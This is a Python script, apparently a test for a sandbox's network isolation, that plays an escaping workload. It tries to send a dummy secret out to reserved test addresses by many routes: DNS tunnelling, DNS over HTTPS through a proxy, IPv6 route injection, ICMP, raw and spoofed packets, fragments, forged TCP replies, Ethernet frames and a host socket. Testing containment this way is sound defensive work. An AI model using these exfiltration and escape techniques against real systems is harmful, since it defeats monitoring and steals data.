"""A candidate that wants out: tries every way it can think of, and says how the stub answered it.

    hostile.py STUB_IP STUB_PORT GATEWAY SOCKET

Each trick has an address of its own, 198.51.100.N and 2001:db8:1::N, so that whoever counts packets knows whose they are. What
fails, fails silently: who captures packets says what got out.
"""

import os
import socket
import ssl
import struct
import subprocess
import sys

STUB, STUB_PORT, GATEWAY, SOCKET = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
OWN = STUB.rsplit(".", 1)[0] + ".2"
LINK = next(name for _, name in socket.if_nameindex() if name != "lo")
PATIENCE = 0.2
SECRET = b"secret-of-the-shadow"


def v4(trick):
    return f"198.51.100.{trick}"


def v6(trick):
    return f"2001:db8:1::{trick:x}"


def attempt(action, *args):
    try:
        return action(*args)
    except (OSError, ValueError, StopIteration):
        return None


def tcp(host, port):
    with socket.create_connection((host, port), PATIENCE) as stream:
        stream.sendall(SECRET)


def udp(host, port, payload=SECRET):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.sendto(payload, socket.getaddrinfo(host, port, family)[0][4])


def question(label):
    """A DNS query whose name carries data."""
    name = b"".join(bytes([len(part)]) + part for part in (label, b"tunnel", b"example")) + b"\0"
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 16, 1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(to, protocol, payload, source=OWN, fragment=0):
    """An IPv4 packet made by hand."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0x5EC, fragment, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def datagram(port, source_port=40000, payload=SECRET):
    return struct.pack("!4H", source_port, port, 8 + len(payload), 0) + payload


def segment(port, flags, source_port=40000):
    """A TCP segment without a connection."""
    return struct.pack("!2H2I2B3H", source_port, port, 1, 1, 0x50, flags, 1024, 0, 0) + SECRET


def raw(to, protocol, payload, **rest):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        out.sendto(packet(to, protocol, payload, **rest), (to, 0))


def hardware_address_of_gateway():
    attempt(udp, GATEWAY, 9)
    with open("/proc/net/arp") as table:
        return next(line.split()[3] for line in table if line.startswith(GATEWAY + " "))


def frame(hardware, kind, payload):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((LINK, 0))
        out.send(bytes.fromhex(hardware.replace(":", "")) + b"\x02\0\0\0\0\x66" + struct.pack("!H", kind) + payload)


def loosen():
    """Gives itself the routes that it lacks, where it may."""
    do = lambda *command: subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    do("ip", "route", "add", "default", "via", GATEWAY)
    has_route = subprocess.run(["ip", "-6", "route", "show", "default"], capture_output=True).stdout
    hardware = attempt(hardware_address_of_gateway)
    if not has_route and hardware:
        attempt(lambda: open(f"/proc/sys/net/ipv6/conf/{LINK}/disable_ipv6", "w").write("0"))
        do("ip", "-6", "address", "add", "2001:db8:77::2/64", "dev", LINK, "nodad")
        do("ip", "-6", "neighbour", "add", "fe80::1", "lladdr", hardware, "dev", LINK, "nud", "permanent")
        do("ip", "-6", "route", "add", "default", "via", "fe80::1", "dev", LINK)


def direct(n):
    for port in (443, 80):
        attempt(tcp, v4(n), port)
    attempt(udp, v4(n), 443)


def other_ports(n):
    for port in (22, 25, 3306, 5432, 6379, STUB_PORT, 9092):
        attempt(tcp, v4(n), port)
    for port in (123, 500, 51820):
        attempt(udp, v4(n), port)


def dns_tunnel(n):
    for part in (b"c2VjcmV0", b"b2YtdGhl", b"c2hhZG93"):
        attempt(udp, v4(n), 53, question(part))
    attempt(tcp, v4(n), 53)
    attempt(socket.getaddrinfo, "c2VjcmV0.tunnel.example", 443)


def dns_over_https(n):
    def ask(stream):
        tls = ssl.create_default_context()
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        with tls.wrap_socket(stream, server_hostname="dns.example") as inside:
            inside.sendall(b"GET /dns-query?dns=c2VjcmV0 HTTP/1.1\r\nhost: dns.example\r\n\r\n")

    def through_the_stub(head):
        with socket.create_connection((STUB, STUB_PORT), 2) as stream:
            stream.sendall(head)
            stream.recv(4096)
            ask(stream)

    attempt(lambda: ask(socket.create_connection((v4(n), 443), PATIENCE)))
    attempt(through_the_stub, f"CONNECT {v4(n)}:443 HTTP/1.1\r\nhost: {v4(n)}:443\r\n\r\n".encode())
    attempt(through_the_stub, f"GET http://{v4(n)}/dns-query HTTP/1.1\r\nhost: {v4(n)}\r\n\r\n".encode())


def ipv6(n):
    attempt(tcp, v6(n), 443)
    attempt(udp, v6(n), 53, question(b"c2VjcmV0"))
    attempt(tcp, f"fe80::1%{LINK}", 443)


def icmp(n):
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + SECRET
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    attempt(raw, v4(n), 1, echo)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        attempt(lambda: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(echo, (v4(n), 0)))


def raw_packets(n):
    for protocol in (4, 41, 47, 50, 132, 253):
        attempt(raw, v4(n), protocol, SECRET)
    attempt(raw, v4(n), 17, datagram(53))


def spoofed(n):
    for source in (STUB, GATEWAY, "203.0.113.5"):
        attempt(lambda: raw(v4(n), 17, datagram(53), source=source))


def fragments(n):
    whole = datagram(53, payload=SECRET * 4)
    attempt(lambda: raw(v4(n), 17, whole[:24], fragment=0x2000))
    attempt(lambda: raw(v4(n), 17, whole[24:], fragment=3))


def pretended_answers(n):
    for to in (v4(n), STUB):
        for flags in (0x12, 0x18, 0x04, 0x11):
            attempt(raw, to, 6, segment(5432, flags, source_port=8080))
        attempt(raw, to, 17, datagram(5432, source_port=53))
        quoted = packet(OWN, 6, segment(5432, 0x18)[:8], source=to)
        error = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
        attempt(raw, to, 1, error[:2] + struct.pack("!H", checksum(error)) + error[4:])


def ethernet_frames(n):
    hardware = attempt(hardware_address_of_gateway)
    inner = struct.pack("!IHBB", 0x60000000, 8 + len(SECRET), 17, 64)
    inner += socket.inet_pton(socket.AF_INET6, "2001:db8:77::2") + socket.inet_pton(socket.AF_INET6, v6(n)) + datagram(53)
    for to in (hardware, "ff:ff:ff:ff:ff:ff"):
        if to:
            attempt(frame, to, 0x0800, packet(v4(n), 17, datagram(53)))
            attempt(frame, to, 0x86DD, inner)
            attempt(frame, to, 0x8100, struct.pack("!HH", 7, 0x0800) + packet(v4(n), 17, datagram(53)))


def gateway(_):
    for to in (GATEWAY, STUB):
        for port in (22, 53, 2375, 5432):
            attempt(tcp, to, port)
        attempt(udp, to, 53, question(b"c2VjcmV0"))


def socket_of_the_host(_):
    with socket.socket(socket.AF_UNIX) as stream:
        attempt(stream.connect, SOCKET)


TRICKS = (direct, other_ports, dns_tunnel, dns_over_https, ipv6, icmp, raw_packets, spoofed, fragments, pretended_answers,
          ethernet_frames, gateway, socket_of_the_host)

os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
with socket.create_connection((STUB, STUB_PORT), 10) as stub:
    stub.sendall(b"GET /pay HTTP/1.1\r\nhost: api.pay.example\r\nconnection: close\r\n\r\n")
    print("stub:", stub.makefile("rb").readline().decode().strip(), flush=True)
loosen()
for number, trick in enumerate(TRICKS, 1):
    trick(number)
print("tried:", len(TRICKS))
